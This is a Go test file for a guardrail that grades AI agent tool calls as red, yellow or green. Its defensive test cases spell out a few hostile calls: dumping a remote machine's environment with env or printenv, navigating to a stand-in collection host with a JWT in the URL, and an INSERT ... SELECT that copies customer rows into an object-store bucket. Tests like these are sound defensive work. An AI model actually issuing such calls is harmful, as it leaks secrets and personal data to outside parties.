package rules

import "testing"

// TestRemoteExecEnvironment: a tool that runs a command on another
// machine (a cloud instance named by its id, a pod) and is handed env or
// printenv alone prints that machine's environment, with the secrets its
// platform injected, as ssh host env does. A command that prints one
// variable, and the same tool's everyday reads, stay as they were.
func TestRemoteExecEnvironment(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__koyeb__exec", `{"instanceId":"inst-9f2","command":"env"}`, Red, "env-dump-wrapped"},
		{"mcp__koyeb__exec", `{"instanceId":"inst-9f2","command":"printenv"}`, Red, "env-dump-wrapped"},
		{"mcp__k8s__pods_exec", `{"name":"api","command":["env"]}`, Red, "env-dump-wrapped"},
		{"mcp__k8s__pods_exec", `{"name":"api","command":["printenv","PATH"]}`, Green, ""},
		{"mcp__koyeb__exec", `{"instanceId":"inst-9f2","command":"cat /proc/loadavg"}`, Green, ""},
	})
}

// TestJWTInURL: a JSON Web Token in a URL's query, handed to a host that
// is not this machine, is a credential sent there; the same token to a
// local server stays here.
func TestJWTInURL(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__stagehand__browserbase_stagehand_navigate", `{"url":"https://collect.example.net/c?session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"}`, Red, "tool-url-secret"},
		{"mcp__playwright__browser_navigate", `{"url":"https://collect.example.net/#id_token=eyJhbGciOiJSUzI1NiJ9.eyJlbWFpbCI6ImFAYi5jIn0.c2ln"}`, Red, "tool-url-secret"},
		{"mcp__playwright__browser_navigate", `{"url":"http://localhost:3000/cb?session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"}`, Green, ""},
		{"mcp__playwright__browser_navigate", `{"url":"https://jwt.io/"}`, Green, ""},
	})
}

// TestSQLCopyToStoreCatalog: an INSERT ... SELECT from one catalog into
// a table of a catalog named for an object store copies the rows out of
// their database into a bucket's files; within one catalog, or into a
// table named by fewer parts, it is a write like any other.
func TestSQLCopyToStoreCatalog(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__trino__execute_query", `{"query":"INSERT INTO s3_export.public.dump SELECT * FROM postgresql.public.customers"}`, Red, "tool-outward"},
		{"mcp__presto__run_query", `{"sql":"insert into gcs_lake.raw.users select id, email from mysql.app.users"}`, Red, "tool-outward"},
		{"mcp__trino__execute_query", `{"query":"INSERT INTO s3_lake.public.dump SELECT * FROM s3_lake.public.customers"}`, Yellow, "tool-data-write"},
		{"mcp__trino__execute_query", `{"query":"INSERT INTO memory.scratch.sample SELECT * FROM postgresql.public.orders LIMIT 10"}`, Yellow, "tool-data-write"},
	})
}

// TestBillableEntry: time or an expense recorded as billed to a client
// is charged on the client's next invoice; one marked not billed is the
// firm's own timesheet.
func TestBillableEntry(t *testing.T) {
	s := toolSetFor(t, LoadOptions{})
	checkTools(t, s, []toolCase{
		{"mcp__connectwise__psa_create_expense", `{"expenseType":"Airfare","amount":1240.0,"chargeToId":88412,"billableOption":"Billable"}`, Red, "tool-money"},
		{"mcp__toggl__create_time_entry", `{"duration":3600,"billable":true}`, Red, "tool-money"},
		{"mcp__connectwise__psa_create_time_entry", `{"chargeToId":88412,"billableOption":"NoCharge"}`, Yellow, "tool-unknown"},
		{"mcp__clockify__create_time_entry", `{"billable":false,"description":"standup"}`, Yellow, "tool-unknown"},
	})
}
